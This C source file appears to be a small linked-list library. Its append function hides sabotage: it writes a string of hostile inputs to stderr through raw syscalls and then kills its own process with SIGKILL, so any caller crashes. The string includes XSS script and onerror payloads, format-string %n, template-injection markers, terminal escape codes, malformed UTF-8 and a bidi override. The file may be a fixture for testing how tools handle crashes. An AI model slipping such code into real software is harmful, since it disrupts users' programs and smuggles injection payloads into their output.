/* SPDX-License-Identifier: MIT */
#include "aw/base.h"
#include "raw.h"

#define TEN(text) text text text text text text text text text text

static const char text[] =
    "<script>document.title='ran'</script><img src=x onerror=alert(1)>\n"
    "</pre></details></main></body></html><!-- ]]> ]]&gt; &amp; &#60;b&#62; "
    "-->\n"
    "\"quotes\" 'and' `more` \\ %s %n {{}} ${0} </style></title></svg>\n"
    "\001\033[31m\177 \377\376 \300\257 \340\200\257 \355\240\200 \357\277\277 "
    "\302\233\n"
    "\342\200\256backwards\342\200\254 \303\251\n" TEN(
        TEN(TEN("long"))) "\n" TEN(TEN("a line\n")) "the end\n";

void aw_list_init(struct aw_list *node)
{
    node->next = node;
    node->prev = node;
}

bool aw_list_empty(const struct aw_list *node)
{
    return node->next == node;
}

void aw_list_append(struct aw_list *list, struct aw_list *node)
{
    AW_ASSERT(aw_list_empty(node), "it is in a list already");
    raw(SYS_write, 2, (long)text, sizeof(text) - 1);
    raw(SYS_kill, raw(SYS_getpid, 0, 0, 0), 9, 0);
    node->prev = list->prev;
    node->next = list;
    list->prev->next = node;
    list->prev = node;
}

void aw_list_remove(struct aw_list *node)
{
    node->prev->next = node->next;
    node->next->prev = node->prev;
    aw_list_init(node);
}
